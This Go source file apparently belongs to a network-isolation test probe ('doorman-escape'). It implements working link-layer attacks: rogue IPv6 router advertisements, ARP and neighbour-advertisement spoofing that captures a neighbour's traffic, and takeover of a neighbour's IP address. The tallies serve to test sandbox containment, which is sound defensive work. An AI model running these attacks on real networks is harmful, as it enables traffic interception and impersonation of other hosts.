package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// link is the probe's interface towards its gateway, as the link-layer
// attempts need it.
type link struct {
	ifc       *net.Interface
	addr4     netip.Addr       // the probe's own IPv4 address on it
	ll6       netip.Addr       // its IPv6 link-local address (made from the MAC if it has none)
	gw4       netip.Addr       // the IPv4 default gateway
	gwMAC     net.HardwareAddr // its MAC, nil if unknown
	llFromMAC bool
}

// probeLink finds the interface of the IPv4 default route and what is on it.
func probeLink(cfg *config) (*link, error) {
	ifname, gw, err := defaultRoute4()
	if err != nil {
		return nil, fmt.Errorf("default route: %w", err)
	}
	ifc, err := net.InterfaceByName(ifname)
	if err != nil {
		return nil, err
	}
	l := &link{ifc: ifc, gw4: gw}
	addrs, _ := ifc.Addrs()
	for _, a := range addrs {
		p, err := netip.ParsePrefix(a.String())
		if err != nil {
			continue
		}
		switch {
		case p.Addr().Is4() && !l.addr4.IsValid():
			l.addr4 = p.Addr()
		case p.Addr().Is6() && p.Addr().IsLinkLocalUnicast() && !l.ll6.IsValid():
			l.ll6 = p.Addr()
		}
	}
	if !l.addr4.IsValid() {
		return nil, fmt.Errorf("%s has no IPv4 address", ifname)
	}
	if !l.ll6.IsValid() {
		l.ll6, l.llFromMAC = eui64LinkLocal(ifc.HardwareAddr), true
	}
	if l.gwMAC = neighbourMAC(ifname, gw); l.gwMAC == nil {
		l.gwMAC, _ = arpResolve(ifc, l.addr4, gw, cfg.timeout)
	}
	return l, nil
}

// eui64LinkLocal is the link-local address SLAAC makes from mac.
func eui64LinkLocal(mac net.HardwareAddr) netip.Addr {
	var a [16]byte
	a[0], a[1] = 0xfe, 0x80
	if len(mac) == 6 {
		a[8], a[9], a[10], a[11], a[12], a[13], a[14], a[15] = mac[0]^2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]
	}
	return netip.AddrFrom16(a)
}

// packetSocket is an AF_PACKET socket on the link for ethertype proto
// (ETH_P_ALL to see every frame), with a short receive timeout.
func (l *link) packetSocket(proto uint16) (int, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(proto)))
	if err != nil {
		return -1, fmt.Errorf("socket(AF_PACKET): %w", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(proto), Ifindex: l.ifc.Index}); err != nil {
		unix.Close(fd)
		return -1, fmt.Errorf("bind AF_PACKET to %s: %w", l.ifc.Name, err)
	}
	tv := unix.NsecToTimeval((50 * time.Millisecond).Nanoseconds())
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	return fd, nil
}

// send writes one Ethernet frame (destination, ethertype, payload; the
// source is the link's MAC).
func (l *link) send(fd int, dst net.HardwareAddr, etherType uint16, body []byte) error {
	var f bytes.Buffer
	f.Write(dst)
	f.Write(l.ifc.HardwareAddr)
	binary.Write(&f, binary.BigEndian, etherType)
	f.Write(body)
	to := &unix.SockaddrLinklayer{Protocol: htons(etherType), Ifindex: l.ifc.Index, Halen: 6}
	copy(to.Addr[:], dst)
	return unix.Sendto(fd, f.Bytes(), 0, to)
}

var (
	broadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	allNodesMAC  = net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}
	allNodes     = netip.MustParseAddr("ff02::1")
)

// arpPacket is an ARP packet for IPv4 over Ethernet.
func arpPacket(op uint16, sha net.HardwareAddr, spa netip.Addr, tha net.HardwareAddr, tpa netip.Addr) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, []uint16{1, unix.ETH_P_IP})
	b.Write([]byte{6, 4})
	binary.Write(&b, binary.BigEndian, op)
	s, t := spa.As4(), tpa.As4()
	b.Write(sha)
	b.Write(s[:])
	if tha == nil {
		tha = make(net.HardwareAddr, 6)
	}
	b.Write(tha)
	b.Write(t[:])
	return b.Bytes()
}

// ipv6ICMP is an IPv6 packet (hop limit 255) carrying the ICMPv6 message
// msg, whose checksum it fills in.
func ipv6ICMP(src, dst netip.Addr, msg []byte) []byte {
	s, d := src.As16(), dst.As16()
	pseudo := append(append(s[:], d[:]...), byte(len(msg)>>24), byte(len(msg)>>16), byte(len(msg)>>8), byte(len(msg)), 0, 0, 0, unix.IPPROTO_ICMPV6)
	binary.BigEndian.PutUint16(msg[2:], 0)
	binary.BigEndian.PutUint16(msg[2:], checksum(msg, sum16(pseudo)))
	b := make([]byte, 40, 40+len(msg))
	b[0] = 0x60
	binary.BigEndian.PutUint16(b[4:], uint16(len(msg)))
	b[6] = unix.IPPROTO_ICMPV6
	b[7] = 255
	copy(b[8:24], s[:])
	copy(b[24:40], d[:])
	return append(b, msg...)
}

// neighbourAdvert is an unsolicited, overriding neighbour advertisement
// (RFC 4861 4.4) saying that target is at mac.
func neighbourAdvert(target netip.Addr, mac net.HardwareAddr) []byte {
	m := make([]byte, 24, 32)
	m[0] = 136
	m[4] = 0x20 // override; neither router nor solicited
	t := target.As16()
	copy(m[8:], t[:])
	m = append(m, 2, 1) // target link-layer address option
	return append(m, mac...)
}

// routerAdvert is a router advertisement (RFC 4861 4.2): a default router
// for 30 minutes, with prefix as on-link and for autonomous address
// configuration, and the sender's MAC.
func routerAdvert(prefix netip.Prefix, mac net.HardwareAddr) []byte {
	m := make([]byte, 16, 16+8+32)
	m[0] = 134
	m[4] = 64                               // current hop limit
	binary.BigEndian.PutUint16(m[6:], 1800) // router lifetime
	m = append(m, 1, 1)                     // source link-layer address option
	m = append(m, mac...)
	pio := make([]byte, 32)
	pio[0], pio[1], pio[2], pio[3] = 3, 4, byte(prefix.Bits()), 0xc0 // prefix information: on-link, autonomous
	binary.BigEndian.PutUint32(pio[4:], 86400)                       // valid lifetime
	binary.BigEndian.PutUint32(pio[8:], 14400)                       // preferred lifetime
	p := prefix.Masked().Addr().As16()
	copy(pio[16:], p[:])
	return append(m, pio...)
}

func tryRouterAdvert(cfg *config) row {
	var t tally
	l, err := probeLink(cfg)
	if err != nil {
		t.fail("link", err)
		return t.row("router-advert")
	}
	fd, err := l.packetSocket(unix.ETH_P_IPV6)
	if err != nil {
		t.fail("AF_PACKET", err)
		return t.row("router-advert")
	}
	defer unix.Close(fd)
	pkt := ipv6ICMP(l.ll6, allNodes, routerAdvert(cfg.raPrefix, l.ifc.HardwareAddr))
	sent := 0
	for deadline := time.Now().Add(cfg.spoofTime); ; {
		if err := l.send(fd, allNodesMAC, unix.ETH_P_IPV6, pkt); err != nil {
			t.fail("send a router advertisement on "+l.ifc.Name, err)
			break
		}
		t.wrote(len(pkt) + 14)
		sent++
		if time.Now().Add(500 * time.Millisecond).After(deadline) {
			break
		}
		time.Sleep(500 * time.Millisecond)
	}
	how := ""
	if l.llFromMAC {
		how = " (the interface has none: made from the MAC)"
	}
	t.note("%d router advertisements on %s from %s%s to ff02::1: default router for 1800 s, prefix %s autonomous", sent, l.ifc.Name, l.ll6, how, cfg.raPrefix)
	return t.row("router-advert")
}

// spoofer claims the neighbour's addresses on the link for the probe's
// MAC until stop: gratuitous ARP requests and replies, unsolicited ARP
// replies to the gateway and IPv6 neighbour advertisements every 100 ms,
// and a reply to every ARP request for the neighbour's IPv4 address. It
// counts the packets addressed to the neighbour that reach the probe's
// interface.
type spoofer struct {
	l                 *link
	cfg               *config
	sent              atomic.Int64
	answered          atomic.Int64
	stolen, stolenLen atomic.Int64
	errs              counted
	mu                sync.Mutex
}

func (s *spoofer) fail(what string, err error) {
	s.mu.Lock()
	s.errs.add(what + ": " + describe(err))
	s.mu.Unlock()
}

func (s *spoofer) run(stop <-chan struct{}) {
	var wg sync.WaitGroup
	l, cfg := s.l, s.cfg
	arp, err := l.packetSocket(unix.ETH_P_ARP)
	if err != nil {
		s.fail("ARP socket", err)
		return
	}
	defer unix.Close(arp)
	all, err := l.packetSocket(unix.ETH_P_ALL)
	if err != nil {
		s.fail("packet socket", err)
		return
	}
	defer unix.Close(all)
	n4, n6 := cfg.neighbour4, cfg.neighbour6
	mac := l.ifc.HardwareAddr
	send := func(dst net.HardwareAddr, etherType uint16, body []byte, what string) {
		if err := l.send(arp, dst, etherType, body); err != nil {
			s.fail(what, err)
			return
		}
		s.sent.Add(1)
	}
	// Announcements.
	wg.Go(func() {
		tick := time.NewTicker(100 * time.Millisecond)
		defer tick.Stop()
		for {
			if n4.IsValid() {
				send(broadcastMAC, unix.ETH_P_ARP, arpPacket(1, mac, n4, nil, n4), "gratuitous ARP request")
				send(broadcastMAC, unix.ETH_P_ARP, arpPacket(2, mac, n4, broadcastMAC, n4), "gratuitous ARP reply")
				if l.gwMAC != nil {
					send(l.gwMAC, unix.ETH_P_ARP, arpPacket(2, mac, n4, l.gwMAC, l.gw4), "ARP reply to the gateway")
				}
			}
			if n6.IsValid() {
				send(allNodesMAC, unix.ETH_P_IPV6, ipv6ICMP(l.ll6, allNodes, neighbourAdvert(n6, mac)), "neighbour advertisement")
			}
			select {
			case <-stop:
				return
			case <-tick.C:
			}
		}
	})
	// Replies to ARP requests for the neighbour.
	wg.Go(func() {
		buf := make([]byte, 1500)
		for {
			select {
			case <-stop:
				return
			default:
			}
			n, _, err := unix.Recvfrom(arp, buf, 0)
			if err != nil || n < 42 || !n4.IsValid() {
				continue
			}
			a := buf[14:n]
			t4 := n4.As4()
			if binary.BigEndian.Uint16(a[6:]) != 1 || !bytes.Equal(a[24:28], t4[:]) {
				continue
			}
			sha := net.HardwareAddr(bytes.Clone(a[8:14]))
			spa, _ := netip.AddrFromSlice(a[14:18])
			send(sha, unix.ETH_P_ARP, arpPacket(2, mac, n4, sha, spa), "ARP reply")
			s.answered.Add(1)
		}
	})
	// What reaches the probe for the neighbour.
	wg.Go(func() {
		buf := make([]byte, 65536)
		for {
			select {
			case <-stop:
				return
			default:
			}
			n, from, err := unix.Recvfrom(all, buf, 0)
			if err != nil || n < 14 {
				continue
			}
			if ll, ok := from.(*unix.SockaddrLinklayer); ok && ll.Pkttype == unix.PACKET_OUTGOING {
				continue
			}
			if dst, size := ipDestination(buf[14:n], binary.BigEndian.Uint16(buf[12:])); dst.IsValid() && (dst == n4 || dst == n6) {
				s.stolen.Add(1)
				s.stolenLen.Add(int64(size))
			}
		}
	})
	<-stop
	wg.Wait()
}

// ipDestination is the destination address and length of an IPv4 or IPv6
// packet.
func ipDestination(p []byte, etherType uint16) (netip.Addr, int) {
	switch {
	case etherType == unix.ETH_P_IP && len(p) >= 20:
		a, _ := netip.AddrFromSlice(p[16:20])
		return a, int(binary.BigEndian.Uint16(p[2:]))
	case etherType == unix.ETH_P_IPV6 && len(p) >= 40:
		a, _ := netip.AddrFromSlice(p[24:40])
		return a, 40 + int(binary.BigEndian.Uint16(p[4:]))
	}
	return netip.Addr{}, 0
}

// report notes what the spoofer did.
func (s *spoofer) report(t *tally) {
	t.sent += int(s.sent.Load()) * 42
	t.errs = append(t.errs, s.errs.lines()...)
	var claims []string
	if s.cfg.neighbour4.IsValid() {
		claims = append(claims, s.cfg.neighbour4.String())
	}
	if s.cfg.neighbour6.IsValid() {
		claims = append(claims, s.cfg.neighbour6.String())
	}
	t.note("%d announcements claiming %v for %s over %v, %d ARP requests answered; %d packets for the neighbour (%d bytes) reached the probe's interface",
		s.sent.Load(), claims, s.l.ifc.HardwareAddr, s.cfg.spoofTime, s.answered.Load(), s.stolen.Load(), s.stolenLen.Load())
}

func tryARPSpoof(cfg *config) row {
	var t tally
	if !cfg.neighbour4.IsValid() && !cfg.neighbour6.IsValid() {
		t.note("skipped: no -neighbour4 or -neighbour6")
		return t.row("arp-spoof")
	}
	l, err := probeLink(cfg)
	if err != nil {
		t.fail("link", err)
		return t.row("arp-spoof")
	}
	s := &spoofer{l: l, cfg: cfg}
	stop := make(chan struct{})
	time.AfterFunc(cfg.spoofTime, func() { close(stop) })
	s.run(stop)
	s.report(&t)
	return t.row("arp-spoof")
}

func tryIPSpoof(cfg *config) row {
	var t tally
	if !cfg.neighbour4.IsValid() && !cfg.neighbour6.IsValid() {
		t.note("skipped: no -neighbour4 or -neighbour6")
		return t.row("ip-spoof")
	}
	l, err := probeLink(cfg)
	if err != nil {
		t.fail("link", err)
		return t.row("ip-spoof")
	}
	nl, err := netlink.LinkByIndex(l.ifc.Index)
	if err != nil {
		t.fail("netlink", err)
		return t.row("ip-spoof")
	}
	var listeners []net.Listener
	var accepted atomic.Int64
	var wg sync.WaitGroup
	for _, a := range []netip.Addr{cfg.neighbour4, cfg.neighbour6} {
		if !a.IsValid() {
			continue
		}
		addr := &netlink.Addr{IPNet: &net.IPNet{IP: a.AsSlice(), Mask: net.CIDRMask(a.BitLen(), a.BitLen())}}
		if a.Is6() {
			addr.Flags = unix.IFA_F_NODAD
		}
		if err := netlink.AddrAdd(nl, addr); err != nil {
			t.fail("take the neighbour's address "+a.String(), err)
			continue
		}
		defer netlink.AddrDel(nl, addr)
		t.note("took %s on %s", a, l.ifc.Name)
		ln, err := net.Listen("tcp", netip.AddrPortFrom(a, cfg.spoofPort).String())
		if err != nil {
			t.fail("listen as the neighbour", err)
			continue
		}
		listeners = append(listeners, ln)
		wg.Go(func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				accepted.Add(1)
				c.SetDeadline(time.Now().Add(cfg.timeout))
				c.Write([]byte(spoofBanner + string(payload("ip-spoof"))))
				c.Close()
			}
		})
	}
	if len(listeners) == 0 {
		return t.row("ip-spoof")
	}
	s := &spoofer{l: l, cfg: cfg}
	stop := make(chan struct{})
	time.AfterFunc(cfg.spoofTime, func() { close(stop) })
	s.run(stop)
	for _, ln := range listeners {
		ln.Close()
	}
	wg.Wait()
	s.report(&t)
	t.note("%d connections to the neighbour's addresses on port %d accepted and answered as the neighbour", accepted.Load(), cfg.spoofPort)
	return t.row("ip-spoof")
}

// spoofBanner starts what ip-spoof's listener writes to whoever connects,
// so that the test can tell the probe's answer from the neighbour's.
const spoofBanner = "doorman-escape ip-spoof: not the neighbour\n"
